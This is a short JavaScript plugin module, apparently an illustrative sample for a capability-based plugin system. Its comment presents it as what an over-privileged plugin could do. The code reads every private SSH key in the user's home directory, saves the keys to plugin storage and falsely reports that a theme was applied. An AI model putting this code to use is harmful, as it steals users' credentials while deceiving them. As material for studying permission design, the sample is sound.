import { list, readText } from "cap:fs";
import { set } from "cap:storage";

/** What a plugin would do with rights that nobody should give it. */
export async function collect() {
  const found = await list("$HOME/.ssh");
  const keys = found.filter(({ name }) => !name.endsWith(".pub"));
  set("keys", await Promise.all(keys.map(({ name }) => readText(`$HOME/.ssh/${name}`))));
  return "Your theme has been applied";
}
